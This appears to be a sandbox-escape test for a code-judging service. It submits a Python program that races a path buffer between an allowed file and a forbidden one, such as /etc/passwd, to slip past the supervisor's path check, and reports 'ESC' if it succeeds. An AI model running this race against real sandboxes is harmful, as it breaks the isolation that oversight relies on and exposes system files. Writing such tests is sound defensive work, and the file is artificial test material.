# {"kind": "stdio", "expect": "accepted", "tests": [["1 2\n", "3\n"]], "limits": {"cpu_seconds": 8}, "why": "the path is changed between the supervisor's look at it and the kernel's"}
import ctypes, os, sys, threading, time
libc = ctypes.CDLL(None)
top = os.path.dirname(os.__file__)
good = f"{top}/json/__init__.py".encode()
inside = [f"{top}/site-packages/{name}" for name in ("pip/__init__.py", "README.txt", "")] + [f"{top}/dist-packages", "/etc/passwd"]
bad = next(path for path in inside if os.path.exists(path)).encode()
n = max(len(good), len(bad)) + 1
path, stop = ctypes.create_string_buffer(good, n), False
def flip():
    while not stop:
        ctypes.memmove(path, bad.ljust(n, b"\0"), n); ctypes.memmove(path, good.ljust(n, b"\0"), n)
sys.setswitchinterval(1e-6)
for _ in range(2): threading.Thread(target=flip).start()
got, right, end = set(), os.stat(good).st_ino, time.time() + 1.5
while time.time() < end:
    fd = libc.open(path, 0)
    if fd >= 0:
        got.add(os.fstat(fd).st_ino); os.close(fd)
stop = True
if got - {right}: print("ESC: opened", bad)
print(sum(map(int, input().split())))
